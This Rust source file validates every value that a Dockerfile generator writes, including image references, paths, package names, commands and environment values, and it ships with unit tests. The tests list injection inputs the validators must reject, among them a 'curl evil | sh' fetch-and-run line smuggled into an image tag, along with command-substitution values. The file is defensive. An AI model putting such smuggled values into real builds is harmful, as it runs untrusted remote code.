//! Validators for every value that reaches a Dockerfile. Answers are checked when they are resolved and again
//! by the template filters, so a value from a hostile repository cannot add or change an instruction.

use anyhow::{bail, Result};

/// Checks an image reference against the OCI distribution grammar: `[host[:port]/]path[:tag][@digest]`.
pub fn image_reference(reference: &str) -> Result<()> {
    let explain = |why: &str| anyhow::anyhow!("`{}` is not a valid image reference ({why})", reference.escape_debug());
    let (rest, digest) = match reference.split_once('@') {
        Some((rest, digest)) => (rest, Some(digest)),
        None => (reference, None),
    };
    if let Some(digest) = digest {
        let (algorithm, hex) = digest
            .split_once(':')
            .ok_or_else(|| explain("digest needs algorithm:hex"))?;
        let algorithm_ok = !algorithm.is_empty()
            && algorithm.split(['+', '.', '-', '_']).all(|part| {
                part.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
                    && part.chars().all(|c| c.is_ascii_alphanumeric())
            });
        if !algorithm_ok || hex.len() < 32 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
            return Err(explain("malformed digest"));
        }
    }
    // A colon after the last slash starts the tag; one before it belongs to a registry port.
    let last_slash = rest.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match rest[last_slash..].find(':') {
        Some(i) => (&rest[..last_slash + i], Some(&rest[last_slash + i + 1..])),
        None => (rest, None),
    };
    if let Some(tag) = tag {
        let mut chars = tag.chars();
        let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        if !first_ok || tag.len() > 128 || !chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-')) {
            return Err(explain("malformed tag"));
        }
    }
    if name.is_empty() || name.len() > 255 {
        return Err(explain("name must be 1 to 255 characters"));
    }
    let mut components: Vec<&str> = name.split('/').collect();
    let first = components[0];
    let has_domain = components.len() > 1
        && (first.contains(['.', ':']) || first == "localhost" || first.chars().any(|c| c.is_ascii_uppercase()));
    if has_domain {
        if !is_domain(first) {
            return Err(explain("malformed registry host"));
        }
        components.remove(0);
    }
    if !components.iter().all(|c| is_path_component(c)) {
        return Err(explain(
            "name components are lowercase letters and digits separated by `.`, `_`, `__` or `-`",
        ));
    }
    Ok(())
}

fn is_domain(domain: &str) -> bool {
    let (host, port) = match domain.rsplit_once(':') {
        Some((host, port)) if !host.ends_with(']') || domain.starts_with('[') => (host, Some(port)),
        _ => (domain, None),
    };
    if port.is_some_and(|p| p.is_empty() || !p.chars().all(|c| c.is_ascii_digit())) {
        return false;
    }
    if let Some(ipv6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return !ipv6.is_empty() && ipv6.chars().all(|c| c.is_ascii_hexdigit() || c == ':');
    }
    !host.is_empty()
        && host.split('.').all(|label| {
            !label.is_empty()
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
}

fn is_path_component(component: &str) -> bool {
    let alnum = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    if component.is_empty() || !component.starts_with(alnum) || !component.ends_with(alnum) {
        return false;
    }
    // Between alphanumeric runs: `.`, `_`, `__` or any number of `-`.
    let mut separator = String::new();
    for c in component.chars() {
        if alnum(c) {
            if !(separator.is_empty()
                || separator == "."
                || separator == "_"
                || separator == "__"
                || separator.chars().all(|s| s == '-'))
            {
                return false;
            }
            separator.clear();
        } else if matches!(c, '.' | '_' | '-') {
            separator.push(c);
        } else {
            return false;
        }
    }
    true
}

/// A TCP port a container can listen on.
pub fn port(value: i64) -> Result<u16> {
    match u16::try_from(value) {
        Ok(port) if port > 0 => Ok(port),
        _ => bail!("`{value}` is not a valid port (1-65535)"),
    }
}

/// The URL path a site is served under (`/docs/`), in one spelling: a leading and a trailing slash, `/` for the
/// root; letters, digits and `._~-` between the slashes, no `.` or `..` segment.
pub fn url_path(value: &str) -> Result<String> {
    let segments: Vec<&str> = value.split('/').filter(|s| !s.is_empty()).collect();
    let safe = value.starts_with('/')
        && segments.iter().all(|segment| {
            segment
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '~' | '-'))
                && !matches!(*segment, "." | "..")
        });
    if !safe {
        bail!(
            "`{}` is not a URL path such as /docs/ (a leading slash; letters, digits and ._~- between slashes)",
            value.escape_debug()
        );
    }
    Ok(if segments.is_empty() {
        "/".into()
    } else {
        format!("/{}/", segments.join("/"))
    })
}

/// A relative path inside the build context, safe to write unquoted in a Dockerfile or shell command:
/// letters, digits and `._-/+@`, no `..` component, not absolute.
pub fn context_path(value: &str) -> Result<()> {
    let safe = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/' | '+' | '@'))
        && !value.starts_with('/')
        && !value.starts_with('-')
        && !value.split('/').any(|part| part == "..");
    if !safe {
        bail!(
            "`{}` is not a safe relative path (letters, digits and ._-/+@ only, no `..`)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A file name such as a binary's: letters, digits and `._-`, not starting with `.` or `-`.
pub fn file_name(value: &str) -> Result<()> {
    let safe = !value.is_empty()
        && value.len() <= 255
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        && !value.starts_with(['.', '-']);
    if !safe {
        bail!(
            "`{}` is not a safe file name (letters, digits and ._- only)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A file name pattern for `find -name`: a file name whose `*` match any characters (`*-all.jar`).
pub fn file_glob(value: &str) -> Result<()> {
    file_name(&value.replace('*', "x")).map_err(|_| {
        anyhow::anyhow!(
            "`{}` is not a safe file name pattern (letters, digits, ._- and * only)",
            value.escape_debug()
        )
    })
}

/// A fully qualified Java class name: identifiers separated by dots (`com.example.Main`, `a.B$Inner`).
pub fn class_name(value: &str) -> Result<()> {
    let safe = !value.is_empty()
        && value.len() <= 500
        && value.split('.').all(|part| {
            part.chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_' || c == '$')
                && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$')
        });
    if !safe {
        bail!(
            "`{}` is not a Java class name (e.g. com.example.Main)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// Longest build tag accepted: longer words are not tag names.
const MAX_TAG_LEN: usize = 100;

/// Go's own rule for a build tag: letters, digits, `_` and `.`.
pub fn is_build_tag(tag: &str) -> bool {
    !tag.is_empty()
        && tag.len() <= MAX_TAG_LEN
        && tag.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
}

/// Go build tags as `go build -tags` takes them, comma-separated (spaces accepted and made commas): each a
/// tag name of letters, digits, `_` and `.`.
pub fn build_tags(value: &str) -> Result<String> {
    let tags: Vec<&str> = value.split([',', ' ']).filter(|tag| !tag.is_empty()).collect();
    if tags.is_empty() {
        bail!(
            "no build tags in `{}` (`none` builds without tags)",
            value.escape_debug()
        );
    }
    if let Some(bad) = tags.iter().find(|tag| !is_build_tag(tag)) {
        bail!(
            "`{}` is not a build tag (letters, digits, _ and . only)",
            bad.escape_debug()
        );
    }
    Ok(tags.join(","))
}

/// A package or script name as npm, Debian and Alpine allow them (`build:prod`, `@acme/web`, `libstdc++6`), safe
/// unquoted in a shell command: letters, digits and `@/._:~+-`, not starting with `-` or `.`.
pub fn package_name(value: &str) -> Result<()> {
    let safe = !value.is_empty()
        && value.len() <= 214
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '@' | '/' | '.' | '_' | ':' | '~' | '+' | '-'))
        && !value.starts_with(['-', '.']);
    if !safe {
        bail!(
            "`{}` is not a package or script name (letters, digits and @/._:~+- only)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A command for an exec-form CMD: words separated by spaces. Each word is JSON-quoted on output, so only
/// control characters (which would break the line) are refused.
pub fn command(value: &str) -> Result<()> {
    if value.trim().is_empty() || value.len() > 4096 {
        bail!("a command needs at least one word");
    }
    if value.chars().any(|c| c.is_control() && c != ' ') {
        bail!("`{}` contains a control character", value.escape_debug());
    }
    // The image runs the command's words without a shell: pipes, `&&`, quotes, globs and `$VAR` would reach
    // the program as literal arguments.
    if let Some(shell) = value.chars().find(|c| "|&;<>$`\"'\\()*?".contains(*c)) {
        bail!(
            "`{}` needs a shell ({shell}), but the image runs the command without one: give the program and its \
             arguments as plain words, or put the rest in a script the command runs",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A word a shell reads as itself, unquoted (`--no-input`, `--settings=app.prod`): letters, digits and
/// `@%+=:,./_-`, as shlex leaves words unquoted; also plain inside a JSON string.
pub fn shell_word(value: &str) -> Result<()> {
    let plain = !value.is_empty()
        && value.len() <= 1024
        && value.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '@' | '%' | '+' | '=' | ':' | ',' | '.' | '/' | '_' | '-')
        });
    if !plain {
        bail!(
            "`{}` is not a plain shell word (letters, digits and @%+=:,./_- only)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// An environment variable's name for ENV: a letter or underscore, then letters, digits and underscores.
pub fn env_name(value: &str) -> Result<()> {
    if !is_env_name(value) {
        bail!("`{}` is not an environment variable name", value.escape_debug());
    }
    Ok(())
}

/// Whether `value` is an environment variable's name (`env_name` without its error: detection asks it of every
/// line of a dotenv file and every string a program reads, where building an error for each no costs more than
/// the rest of the scan).
pub fn is_env_name(value: &str) -> bool {
    let mut chars = value.chars();
    value.len() <= 128
        && chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// A name written the way programs name their environment variables, `DATABASE_URL` or `PORT`: an upper-case
/// letter first, then upper-case letters, digits and `_` (what tells a variable read from a setting's key).
pub fn is_upper_env_name(name: &str) -> bool {
    name.len() <= 128
        && name.starts_with(|c: char| c.is_ascii_uppercase())
        && name
            .chars()
            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
}

/// An environment value written unquoted in ENV: characters the Dockerfile parser takes literally (no
/// spaces, quotes, `$` or backslashes).
pub fn env_value(value: &str) -> Result<()> {
    let ok = value.len() <= 1024
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:@,+=%-".contains(c));
    if !ok {
        bail!(
            "`{}` is not a plain environment value (letters, digits and _./:@,+=%-)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A version such as `1.23` or `20`: digits and dots only.
pub fn version(value: &str) -> Result<()> {
    let safe = !value.is_empty()
        && value.len() <= 32
        && value
            .split('.')
            .all(|part| !part.is_empty() && part.chars().all(|c| c.is_ascii_digit()));
    if !safe {
        bail!(
            "`{}` is not a version (digits separated by dots, e.g. 1.23)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// Whether a variable's name says it holds a credential.
pub fn looks_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    crate::knowledge::secrets::words()
        .iter()
        .any(|word| upper.contains(word.as_str()))
}

/// A value that carries a password: a URL with one in its user part (`postgres://app:secret@db/app`).
pub fn holds_password(value: &str) -> bool {
    value.split_once("://").is_some_and(|(_, rest)| {
        let authority = rest.split('/').next().unwrap_or(rest);
        authority
            .rsplit_once('@')
            .is_some_and(|(user, _)| user.split_once(':').is_some_and(|(_, password)| !password.is_empty()))
    })
}

/// An absolute path inside the container (`/data`, `/var/lib/app`): plain characters only, no `..`.
pub fn container_path(value: &str) -> Result<()> {
    let ok = value.starts_with('/')
        && value.len() <= 200
        && value.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c))
        && !value.split('/').any(|part| part == "..");
    if !ok {
        bail!(
            "`{}` is not a plain absolute path (letters, digits and /._-)",
            value.escape_debug()
        );
    }
    Ok(())
}

/// A HEALTHCHECK option with its value: `--interval=30s`, `--timeout=3s`, `--start-period=5s`, `--retries=3`.
pub fn healthcheck_option(value: &str) -> Result<()> {
    let known = [
        "--interval=",
        "--timeout=",
        "--start-period=",
        "--start-interval=",
        "--retries=",
    ];
    let ok = known.iter().any(|prefix| {
        value
            .strip_prefix(prefix)
            .is_some_and(|v| !v.is_empty() && v.len() <= 16 && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '.'))
    });
    if !ok {
        bail!("`{}` is not a HEALTHCHECK option dockgen writes", value.escape_debug());
    }
    Ok(())
}

/// Top-level folders of the system, never an app's own (`WORKDIR /` or `/usr/src/app`'s parent are not where
/// the program keeps its files, and must never be handed to the app user).
const SYSTEM_DIRS: &[&str] = &[
    "bin", "boot", "dev", "etc", "lib", "lib64", "proc", "root", "run", "sbin", "sys", "tmp", "usr",
];

/// A plain absolute folder that can belong to the app: not `/`, not a system folder, no variables.
pub fn is_app_dir(dir: &str) -> bool {
    let top = dir.trim_start_matches('/').split('/').next().unwrap_or_default();
    dir.starts_with('/')
        && !top.is_empty()
        && !SYSTEM_DIRS.contains(&top)
        && !dir.contains(['$', ' ', '\t'])
        && container_path(dir).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_an_apps_own_folder_belongs_to_the_app() {
        for dir in ["/srv/relay", "/app", "/var/lib/x", "/home/app", "/opt/svc"] {
            assert!(is_app_dir(dir), "{dir}");
        }
        for dir in ["/", "/usr/src/app", "/etc", "/tmp/x", "relative", "/a/$X"] {
            assert!(!is_app_dir(dir), "{dir}");
        }
    }

    #[test]
    fn flags_are_plain_shell_words_and_shell_syntax_is_not() {
        for word in ["--no-input", "--settings=app.prod", "manage.py", "-v", "a,b", "50%"] {
            assert!(shell_word(word).is_ok(), "{word}");
        }
        for word in ["", "$HOME", "~/x", "a b", "[ab]", "#x", "{a,b}", "!x", "\"x\""] {
            assert!(shell_word(word).is_err(), "{word}");
        }
    }

    #[test]
    fn a_password_in_a_url_is_a_credential() {
        for url in [
            "postgres://app:secret@db:5432/app",
            "redis://:pw@cache",
            "amqp://u:p@h/v?x=@",
        ] {
            assert!(holds_password(url), "{url}");
        }
        for plain in [
            "postgres://app@db/app",
            "https://example.com/a@b",
            "user:pass@host",
            "eu-west",
        ] {
            assert!(!holds_password(plain), "{plain}");
        }
    }

    #[test]
    fn accepts_real_image_references() {
        for ok in [
            "alpine:3.20",
            "golang:1.23-alpine",
            "gcr.io/distroless/static-debian12:nonroot",
            "localhost:5000/team/app:v1.2",
            "registry.example.com/a__b/c-d:latest",
            "nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "eclipse-temurin:21-jre-alpine",
            "[::1]:5000/app:1",
        ] {
            assert!(image_reference(ok).is_ok(), "{ok}");
        }
    }

    #[test]
    fn rejects_injection_and_malformed_references() {
        for bad in [
            "",
            "alpine:3.20\nRUN curl evil | sh",
            "alpine 3.20",
            "Alpine:3",
            "alpine:",
            "alpine:-x",
            "alpine@sha256:abc",
            "$(whoami)",
            "a/../b",
            "golang:1.23`id`",
            "ubuntu:22.04#x",
        ] {
            assert!(image_reference(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn paths_names_versions_and_ports() {
        assert!(context_path("./cmd/api").is_ok());
        assert!(context_path(".").is_ok());
        for bad in ["../x", "/etc", "a b", "a\nRUN x", "$(x)", "a\"b", "-rf", "a\\b", "a#b"] {
            assert!(context_path(bad).is_err(), "{bad:?}");
        }
        assert!(file_name("api-server_2").is_ok());
        assert!(file_name("a/b").is_err() && file_name(".hidden").is_err() && file_name("").is_err());
        for name in ["build:prod", "@acme/web", "libstdc++6", "g++", "libglib2.0-0"] {
            assert!(package_name(name).is_ok(), "{name:?}");
        }
        for bad in ["-rf", ".x", "a b", "a;b", "$(x)", "a|b", ""] {
            assert!(package_name(bad).is_err(), "{bad:?}");
        }
        assert!(version("1.23").is_ok() && version("1.23;x").is_err() && version("1..2").is_err());
        assert_eq!(port(8080).unwrap(), 8080);
        assert!(port(0).is_err() && port(65536).is_err() && port(-1).is_err());
    }
}
